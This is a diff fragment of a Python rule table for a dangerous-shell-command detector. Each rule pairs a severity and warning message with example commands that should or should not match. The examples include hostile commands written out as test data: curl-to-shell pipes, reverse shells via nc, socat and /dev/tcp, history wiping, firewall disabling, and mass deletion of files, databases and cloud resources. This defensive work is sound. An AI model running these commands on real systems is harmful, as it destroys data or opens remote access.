+         ("tail -f /var/log/syslog", "grep error /var/log/syslog")),
+    Rule("move-system", "delete", CRITICAL, "moves {} away: the system or your home would break", move_system,
+         ("mv / /tmp/x", "mv ~ /tmp/old", "mv /etc /etc.bak", "mv /usr/* /tmp"), ("mv a.txt b.txt", "mv ~/a.txt ~/b.txt")),
+    Rule("move-to-null", "delete", HIGH, "moves {} onto /dev/null, which destroys it", move_to_null, ("mv notes.txt /dev/null",), ("mv a b",)),
+    Rule("download-exec", "remote-code", HIGH, "runs code downloaded from the internet ({}) without showing it first", pipe_to_shell,
+         ("curl -fsSL https://x.sh | sh", "wget -qO- http://x | bash", "curl x | sudo bash", "curl x | python3 -"),
+         ("curl -O https://x/file.tar.gz", "curl x | jq .", "wget http://x/a.sh")),
+    Rule("reverse-shell", "remote-access", HIGH, "opens a shell for a remote host ({})", reverse_shell,
+         ("nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socat tcp:1.2.3.4:99 exec:/bin/sh", "ncat --exec /bin/bash h 1"),
+         ("nc -zv host 22", "nc -l 8080")),
+    Rule("kill-everything", "processes", CRITICAL, "kills {}: the system goes down", kill_everything,
+         ("kill -9 1", "kill -9 -1", "kill -KILL -1", "killall5", "kill -1", "pkill -9 init"), ("kill -9 12345", "kill 4242", "kill -HUP 1234")),
+    Rule("sysrq", "system", CRITICAL, "writes to {}: the kernel reboots or crashes immediately", sysrq,
+         ("echo b > /proc/sysrq-trigger", "echo c | sudo tee /proc/sysrq-trigger"), ("cat /proc/cpuinfo",)),
+    Rule("power", "system", HIGH, "{} shuts down or restarts the machine", power,
+         ("shutdown -h now", "reboot", "sudo halt", "systemctl poweroff", "init 0", "poweroff"), ("uptime", "systemctl status nginx")),
+    Rule("firewall-off", "network", HIGH, "turns the firewall off ({})", firewall_off,
+         ("iptables -F", "ufw disable", "nft flush ruleset", "systemctl stop firewalld", "pfctl -d", "iptables -P INPUT ACCEPT"),
+         ("iptables -L", "ufw status", "ufw allow 22")),
+    Rule("history-wipe", "anti-forensics", HIGH, "{} erases your history or scheduled jobs for good", history_wipe,
+         ("history -c", "crontab -r", "unset HISTFILE"), ("history", "crontab -l", "crontab -e")),
+    Rule("git-destructive", "git", HIGH, "{} throws away work that may not be saved anywhere else", git_destructive,
+         ("git push --force", "git push -f origin main", "git reset --hard HEAD~1", "git clean -fdx", "git push origin +main", "git checkout -- .", "git branch -D feature"),
+         ("git push", "git status", "git reset --soft HEAD~1", "git clean -n", "git commit -m 'rm -rf /'")),
+    Rule("container-mass-delete", "containers", HIGH, "{} deletes many containers, images or cluster objects at once", container_mass_delete,
+         ("docker system prune -a", "docker rm -f $(docker ps -aq)", "docker volume prune -f", "kubectl delete pods --all", "kubectl delete namespace prod"),
+         ("docker ps -a", "docker rm web1", "kubectl get pods", "kubectl delete pod web-1")),
+    Rule("sql-destructive", "database", HIGH, "runs `{}`, which deletes data in the database", sql_destructive,
+         ("mysql -e 'DROP DATABASE shop'", "psql -c 'TRUNCATE users'", "dropdb shop", "redis-cli FLUSHALL", "psql -c 'DELETE FROM users;'"),
+         ("psql -c 'SELECT 1'", "mysql -e 'SHOW DATABASES'", "psql -c 'DELETE FROM users WHERE id=1'")),
+    Rule("security-off", "system", HIGH, "turns off a security protection ({})", selinux_off,
+         ("setenforce 0", "csrutil disable", "sudo spctl --master-disable", "xattr -cr /"), ("getenforce", "xattr -l file", "xattr -cr ./MyApp.app")),
+    Rule("windows-wipe", "delete", CRITICAL, "{} wipes a Windows drive or system folder", windows_wipe,
+         (), ()),
+    Rule("cloud-destroy", "cloud", HIGH, "{} deletes cloud resources or data", cloud_destroy,
+         ("terraform destroy", "aws s3 rm s3://bucket --recursive", "gsutil rm -r gs://b"), ("terraform plan", "aws s3 ls")),
+    Rule("user-delete", "accounts", HIGH, "removes the account or password of {}", user_delete, ("userdel -r bob", "passwd -d root"), ("id bob",)),
+    Rule("remove-core-package", "packages", HIGH, "removes {}, a package the system needs to run", package_remove_core,
+         ("apt remove coreutils", "sudo apt-get purge sudo", "yum remove systemd"), ("apt remove vim",)),
+    Rule("overwrite-dotfile", "delete", HIGH, "overwrites or deletes {}", overwrite_dotfile,
+         ("echo x > ~/.bashrc", "rm ~/.ssh/id_rsa", "cat k > ~/.ssh/authorized_keys"), ("echo x >> ~/.bashrc", "cat ~/.bashrc")),
+    Rule("remote-delete", "cloud", HIGH, "{} deletes remote resources or data, usually for good", remote_delete,
+         ("aws secretsmanager delete-secret --secret-id x", "gh repo delete o/r", "helm uninstall web", "rclone purge r:b", "vgremove vg1",
+          "heroku apps:destroy", "vault kv delete secret/x", "npm unpublish pkg", "gcloud compute instances delete vm1"),
+         ("aws s3 ls", "gh repo view", "helm list", "npm install", "gcloud config list")),
+    Rule("http-delete", "cloud", HIGH, "sends an HTTP DELETE to {}", http_delete,
+         ("curl -X DELETE http://localhost:9200/logs", "curl --request DELETE https://api/x/1"), ("curl -X GET http://x", "curl http://x")),
+    Rule("sync-delete", "delete", HIGH, "deletes files in {} that are not in the source", sync_delete,
+         ("rsync -a --delete src/ dst/", "rclone sync /src remote:b --delete-excluded"), ("rsync -a src/ dst/",)),
+    Rule("network-down", "network", HIGH, "takes the network down ({}): a remote session would be cut off", network_down,
+         ("ifconfig eth0 down", "ip link set eth0 down", "sudo systemctl stop NetworkManager", "systemctl stop sshd"),
+         ("ip addr", "ifconfig", "systemctl status sshd")),
+    Rule("kill-9", "processes", MODERATE, "force-kills {} without letting it clean up", kill_pid, ("kill -9 12345", "pkill -9 node"), ("kill 12345",)),
+    Rule("as-root", "privilege", MODERATE, "runs with root privileges ({})", runs_as_root, ("sudo apt update",), ("apt list",)),
+)
+
+RULES_BY_ID = {r.id: r for r in RULES}
